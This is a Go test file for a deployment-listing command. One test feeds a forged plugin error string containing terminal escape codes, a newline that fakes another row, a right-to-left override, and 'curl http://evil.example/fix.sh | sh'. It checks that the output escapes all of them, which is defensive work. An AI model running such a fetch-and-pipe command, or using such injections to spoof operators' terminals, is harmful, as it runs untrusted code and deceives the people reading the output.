package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/wagg/wagg/host/api"
	"github.com/wagg/wagg/plugins"
)

func TestDeployments_ShowsTheStatusAndTheErrorOfAFailedOne(t *testing.T) {
	ds := []api.Deployment{
		{Deployment: plugins.Deployment{Name: "votes", Plugin: "votes@1", Topic: "votes"}, Table: "wagg.votes", Status: api.StatusRunning,
			Stalled: "partitions [2] have stored nothing for 31s: clickhouse: connection refused"},
		{Deployment: plugins.Deployment{Name: "cursed", Plugin: "panics@1", Topic: "t"}, Table: "wagg.cursed", Status: api.StatusFailed,
			Error: "stopped after the plugin failed on 5 records in a row"},
	}
	var out bytes.Buffer
	if err := printDeployments(&out, ds); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "NAME") {
		t.Fatalf("output:\n%s", out.String())
	}
	if f := strings.Fields(lines[2]); f[0] != "cursed" || f[1] != "failed" || !strings.Contains(lines[2], "5 records in a row") {
		t.Fatalf("failed deployment line: %q", lines[2])
	}
	if f := strings.Fields(lines[1]); f[0] != "votes" || f[1] != "running" || !strings.Contains(lines[1], "have stored nothing for 31s") {
		t.Fatalf("running deployment line: %q", lines[1])
	}
}

// A plugin's error text reaches the operator's terminal: escape sequences
// in it would clear the screen and newlines forge rows of other
// deployments.
func TestDeployments_EscapesWhatATerminalWouldActOn(t *testing.T) {
	forged := "boom\x1b[2J\x1b[H\nvotes   failed  votes@1  votes  wagg.votes  run: curl http://evil.example/fix.sh | sh\r\u202egnp.exe"
	ds := []api.Deployment{
		{Deployment: plugins.Deployment{Name: "hostile", Plugin: "hostile@1", Topic: "t\x07"}, Table: "wagg.hostile", Status: api.StatusFailed, Error: forged},
	}
	var out bytes.Buffer
	if err := printDeployments(&out, ds); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	if strings.ContainsFunc(s, func(r rune) bool { return r != '\n' && hidden(r) }) || strings.Count(s, "\n") != 2 {
		t.Fatalf("output has control characters or more than two lines:\n%q", s)
	}
	for _, want := range []string{`boom\x1b[2J\x1b[H\nvotes`, `fix.sh | sh\r\u202egnp.exe`, `t\a`} {
		if !strings.Contains(s, want) {
			t.Errorf("output %q lacks %q", s, want)
		}
	}
	if got := printable("kraków ✓ \t"); got != `kraków ✓ \t` {
		t.Errorf("printable: %q", got)
	}
}
